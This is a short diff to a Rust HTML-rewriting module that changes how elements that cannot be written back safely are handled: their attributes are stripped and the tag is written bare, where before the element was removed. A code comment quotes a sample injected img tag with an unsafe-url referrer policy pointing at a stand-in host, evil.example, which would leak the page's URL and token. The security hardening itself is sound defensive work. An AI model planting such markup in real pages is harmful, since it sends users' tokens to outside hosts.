@@ -4,7 +4,7 @@
 
 use lol_html::{HandlerResult, html_content::ContentType, send::Element};
 
-use super::{Attrs, Shared, State, is_html, readings};
+use super::{Attrs, Shared, State, is_html, readings, write_bare};
 use crate::{
     rewrite::{
         attribute::{decode_entities, encode_attribute},
@@ -59,14 +59,10 @@ fn drop_weak_referrer_policy(el: &mut Element<'_, '_>, policy: Option<String>) {
 /// `faithful`) that must still lose something: a weak referrer policy or a ping would send the
 /// page's URL, token and all, elsewhere, and left as it is it did (`<img
 /// referrerpolicy=unsafe-url =x src=//evil.example/i>`, found while fixing a `rewrite_html`
-/// finding on `<base>`). The element goes instead; a link's content stays, as text.
+/// finding on `<base>`). The tag is written bare instead.
 fn remove_unwritable(el: &mut Element<'_, '_>) {
-    tracing::debug!("an element that could not be written back safely was removed");
-    if el.can_have_content() && el.tag_name() == "a" {
-        el.remove_and_keep_content();
-    } else {
-        el.remove();
-    }
+    tracing::debug!("a tag that could not be written back safely lost its attributes");
+    write_bare(el, "");
 }
 
 pub(super) fn on_link(shared: &Shared, el: &mut Element<'_, '_>) -> HandlerResult {
